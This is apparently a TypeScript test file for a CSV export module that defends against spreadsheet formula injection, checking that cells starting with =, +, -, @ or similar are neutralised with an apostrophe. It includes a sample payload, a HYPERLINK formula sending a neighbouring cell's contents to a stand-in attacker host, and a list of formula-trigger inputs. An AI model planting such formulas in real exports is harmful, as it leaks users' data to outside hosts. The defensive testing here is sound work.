import fc from 'fast-check';
// eslint-disable-next-line no-restricted-imports -- the test reads the file back with a parser the product does not write with
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvText, isFormulaCell } from './csv';

/** The cells of a file as a spreadsheet's import would split them (RFC 4180, comma, CRLF). */
const readBack = (text: string) => Papa.parse<string[]>(text, { delimiter: ',', newline: '\r\n' });

/** One data cell written between two others, then read back. */
function roundTrip(cell: string) {
  const { data, errors } = readBack(csvText(['Before', 'Cell', 'After'], [['a', cell, 'z']]));
  return { rows: data, errors, cell: data[1]?.[1] };
}

const PAYLOAD = '=HYPERLINK("https://evil.example/?q="&C2,"Open chart\nrecord")';

describe('isFormulaCell', () => {
  it('is true for a cell a spreadsheet would run: =, +, -, @ first, also after spaces or line breaks, or a tab or carriage return first', () => {
    for (const cell of [
      PAYLOAD,
      '+1+1',
      '-2+3',
      '@SUM(A1:A9)',
      '\t=1',
      '\r=1',
      '\tplain',
      '\rplain',
      ' =1+1',
      '\n=HYPERLINK("x")',
      '\r\n @SUM(1)',
      '\u00a0+1',
      '\ufeff=1',
      '＝1+1',
    ]) {
      expect(isFormulaCell(cell), JSON.stringify(cell)).toBe(true);
    }
  });

  it('is false for text and for a plain negative amount, which a spreadsheet reads as the number it is', () => {
    for (const cell of [
      '',
      'Maria Lopez',
      "James O'Neil",
      'Open chart\n=record',
      'a=b',
      '-25.00',
      '-7',
      '1240.50',
      ' ',
      '\nplain',
    ]) {
      expect(isFormulaCell(cell), JSON.stringify(cell)).toBe(false);
    }
    // Only a whole number is spared: a sum behind a minus sign still runs.
    expect(isFormulaCell('-25.00+cmd')).toBe(true);
    expect(isFormulaCell('-25.00\n=1')).toBe(true);
  });
});

describe('csvText', () => {
  it('writes RFC 4180: CRLF between rows, a cell quoted when it holds a comma, a quote, a line break or edge spaces', () => {
    expect(
      csvText(
        ['Rider', 'Amount'],
        [
          ['Lopez, Maria', '12.50'],
          ['Say "hi"', '-3.05'],
          ['two\nlines', ' x '],
        ],
      ),
    ).toBe('Rider,Amount\r\n"Lopez, Maria",12.50\r\n"Say ""hi""",-3.05\r\n"two\nlines"," x "');
  });

  it('quotes a formula cell with a leading apostrophe, so the payload whose line break defeats papaparse stays text', () => {
    expect(csvText(['Patient'], [[PAYLOAD]])).toBe(
      `Patient\r\n"'=HYPERLINK(""https://evil.example/?q=""&C2,""Open chart\nrecord"")"`,
    );
    expect(roundTrip(PAYLOAD).cell).toBe(`'${PAYLOAD}`);
    expect(roundTrip('\n=1+1').cell).toBe("'\n=1+1");
    expect(roundTrip('-25.00').cell).toBe('-25.00');
  });

  /** Any text, leaning towards what a spreadsheet would run: a formula character after some white space. */
  const cellText = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc
      .tuple(
        fc.stringMatching(/^[ \t\r\n\u00a0\ufeff]{0,3}$/),
        fc.constantFrom('=', '+', '-', '@', '＝', '\t', '\r', "'", '"', ','),
        fc.string({ unit: 'binary' }),
      )
      .map((parts) => parts.join('')),
    fc.tuple(fc.integer(), fc.nat(99)).map(([whole, cents]) => `${whole}.${String(cents).padStart(2, '0')}`),
  );

  it('any text: read back, the cell is the text itself or the text behind one apostrophe, and never starts a formula', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const { rows, errors, cell } = roundTrip(text);
        expect(errors).toEqual([]);
        // No row or cell was added: a line break or a comma in the text stays inside the cell.
        expect(rows.map((r) => r.length)).toEqual([3, 3]);
        expect(rows[1]![2]).toBe('z');
        expect([text, `'${text}`]).toContain(cell);
        const first = cell!.trimStart()[0];
        const runs = /^[\t\r]/.test(cell!) || (['=', '+', '-', '@'].includes(first!) && !/^-\d+(\.\d+)?$/.test(cell!));
        expect(runs, JSON.stringify(cell)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });
});
